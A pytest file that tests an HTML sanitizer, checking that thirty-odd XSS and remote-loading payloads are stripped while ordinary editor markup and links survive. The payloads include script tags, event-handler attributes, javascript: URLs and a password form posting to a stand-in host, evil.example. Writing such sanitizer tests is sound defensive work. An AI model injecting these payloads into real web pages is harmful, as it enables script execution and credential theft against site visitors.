"""HTML that people wrote or pasted: what is harmless stays, what runs or calls out goes."""

import pytest

from portal.core.html import clean_html


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src='https://evil.example/pixel.png'>",
        "<img src='//evil.example/pixel.png'>",
        r"<img src='/\evil.example/pixel.png'>",
        "<img src='/\t/evil.example/pixel.png'>",
        "<img src='/&#9;/evil.example/pixel.png'>",
        "<img src='\\\\evil.example\\pixel.png'>",
        "<img srcset='https://evil.example/x 2x'>",
        "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
        "<math><mtext></p><img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='JaVa&#9;Script:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>",
        "<iframe src='https://evil.example'></iframe>",
        "<object data='https://evil.example'></object><embed src='https://evil.example'>",
        "<form action='https://evil.example'><input name=password></form>",
        "<style>@import 'https://evil.example'</style>",
        "<p style='background:url(https://evil.example)'>x</p>",
        "<link rel=stylesheet href='https://evil.example'>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href='https://evil.example/'>",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
        "<video src='https://evil.example/v' onerror=alert(1)></video>",
        "<details open ontoggle=alert(1)>x</details>",
        "<template><script>alert(1)</script></template>",
    ],
)
def test_nothing_that_runs_or_calls_another_host_survives(payload):
    cleaned = clean_html(payload).replace('title="&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;"', "")
    for word in (
        "script",
        "onerror",
        "onload",
        "onclick",
        "onmouseover",
        "evil.example",
        "style",
        "<svg",
        "data:",
        "<form",
    ):
        assert word not in cleaned.lower()


@pytest.mark.parametrize(
    "harmless",
    [
        "<h2>Aims</h2><p>One <strong>two</strong> <em>three</em></p>",
        "<ul><li>一</li><li>二</li></ul>",
        '<img src="/files/abc/?inline" alt="A mangrove">',
        '<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
        '<p lang="zh-hans">海洋</p>',
    ],
)
def test_what_an_editor_writes_stays(harmless):
    assert clean_html(harmless) == harmless


def test_links_stay_and_tell_the_other_host_nothing():
    assert clean_html('<a href="https://asean.org">ASEAN</a>') == (
        '<a href="https://asean.org" rel="noopener noreferrer">ASEAN</a>'
    )


def test_cleaning_twice_changes_nothing_more():
    once = clean_html("<p>1 < 2 & 3</p><script>x</script>")
    assert clean_html(once) == once
